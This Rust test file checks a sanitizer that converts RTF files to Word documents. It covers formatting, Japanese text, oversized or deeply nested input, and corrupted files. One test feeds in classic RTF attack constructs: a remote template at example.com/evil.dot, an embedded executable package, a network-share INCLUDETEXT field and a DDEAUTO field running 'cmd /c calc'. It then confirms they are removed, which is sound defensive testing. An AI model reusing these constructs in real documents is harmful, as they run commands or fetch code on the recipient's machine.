//! Rich Text Format, written here as text.

use sanitizer_intermediate::{ChangedKind, HoldReason, RemovedKind};

use crate::chance::Chance;
use crate::desk::{Desk, changed, contains, removed};
use crate::office::package::{everything, part};
use crate::pictures::{gradient, png};

/// Bytes as RTF writes them: two digits each.
fn digits(bytes: &[u8], prefix: &str) -> String {
    bytes.iter().map(|it| format!("{prefix}{it:02x}")).collect()
}

fn japanese(text: &str) -> String {
    digits(&encoding_rs::SHIFT_JIS.encode(text).0, "\\'")
}

/// NF-32: a text becomes a Word document: characters of every kind, looks, tables, pictures.
#[test]
fn a_text_becomes_a_word_document() {
    let picture = digits(&png(&gradient(1), 16, 16), "");
    let file = format!(
        "{{\\rtf1\\ansi\\ansicpg1252{{\\fonttbl{{\\f0\\fcharset0 A;}}{{\\f1\\fcharset128 M;}}}}\
         {{\\colortbl;\\red255\\green0\\blue0;}}{{\\stylesheet{{\\s1 heading 1;}}}}\
         {{\\header {{\\f1 {header}}}\\par}}\
         \\pard\\outlinelevel0 {{\\f1 {title}}}\\par\
         \\pard {{\\b bold}}{{\\cf1 red}}\\u-10179?\\u-8503?\\u21513?\\'e9\\line next\\tab end\
         {{\\footnote note}}\\par\
         \\trowd\\cellx3000\\cellx6000\\pard\\intbl left\\cell right\\cell\\row\
         \\pard{{\\pict\\pngblip\\picwgoal1000\\pichgoal500 {picture}}}\\par}}",
        header = japanese("頭書き"),
        title = japanese("表示ソース"),
    );
    let rebuilt = Desk::new().sends("文書.rtf", file.as_bytes()).becomes("文書.docx");
    let body = part(&rebuilt.bytes, "word/document.xml");
    for text in ["表示ソース", "bold", "red", "吉é", "next", "left", "right"] {
        assert!(body.contains(text), "{text}: {body}");
    }
    for look in
        ["Heading1", "<w:b/>", "FF0000", "<w:br/>", "<w:tab/>", "w:w=\"3000\"", "cx=\"635000\""]
    {
        assert!(body.contains(look), "{look}: {body}");
    }
    assert!(part(&rebuilt.bytes, "word/header1.xml").contains("頭書き"));
    assert!(part(&rebuilt.bytes, "word/footnotes.xml").contains("note"));
    assert_eq!(changed(&rebuilt, ChangedKind::TypeChanged), 1);
}

/// NF-32: objects, templates and fields that fetch stay behind; what they showed stays.
#[test]
fn what_is_active_stays_behind() {
    let file = b"{\\rtf1{\\*\\template http://example.com/evil.dot}{\\info{\\author secret}}\
        {\\object\\objupdate{\\*\\objclass Package}{\\*\\objdata 4d5a9000}{\\result shown object}}\
        {\\field{\\*\\fldinst INCLUDETEXT \"\\\\\\\\host\\\\share\"}{\\fldrslt shown text}}\
        {\\field{\\*\\fldinst DDEAUTO cmd \"/c calc\"}{\\fldrslt shown value}}\
        {\\*\\unknown hidden}\\par}";
    let rebuilt = Desk::new().sends("文書.rtf", file).becomes("文書.docx");
    let everything = everything(&rebuilt.bytes);
    for active in ["example.com", "secret", "4d5a", "host", "calc", "hidden", "Package"] {
        assert!(!contains(&everything, active.as_bytes()), "{active}");
    }
    for shown in ["shown object", "shown text", "shown value"] {
        assert!(contains(&everything, shown.as_bytes()), "{shown}");
    }
    for kind in [
        RemovedKind::OleObjects,
        RemovedKind::ActiveFields,
        RemovedKind::Dde,
        RemovedKind::ExternalReferences,
        RemovedKind::Properties,
    ] {
        assert_eq!(removed(&rebuilt, kind), 1, "{}", kind.code());
    }
}

/// NF-32: groups without end and endless text are held, whatever they cost.
#[test]
fn floods_are_held() {
    let mut desk = Desk::new();
    let deep = format!("{{\\rtf1{}", "{".repeat(5_000));
    desk.sends("a.rtf", deep.as_bytes()).is_held_with(HoldReason::TooComplex);
    desk.rebuilder.runner.limits.text_bytes = 1_000;
    let long = format!("{{\\rtf1 {}}}", "a".repeat(2_000));
    desk.sends("a.rtf", long.as_bytes()).is_held_with(HoldReason::TooLarge);
}

/// NF-32: damaged files end with a document or a reason.
#[test]
fn damaged_files_end_with_a_reason() {
    let desk = Desk::new();
    let whole = b"{\\rtf1\\ansi{\\fonttbl{\\f0\\fcharset128 M;}}\\trowd\\cellx9\\intbl a\\cell\\row{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}{\\footnote x}\\u26085?\\par}";
    let mut chance = Chance::new(21);
    for _ in 0..80 {
        let mut bytes = whole.to_vec();
        for _ in 0..=chance.below(3) {
            let at = 5 + chance.below(bytes.len() - 5);
            bytes[at] = chance.byte();
        }
        let sent = desk.sends("a.rtf", &bytes);
        assert!(sent.0.diagnosis.is_none(), "{:?}", sent.0.diagnosis);
    }
}
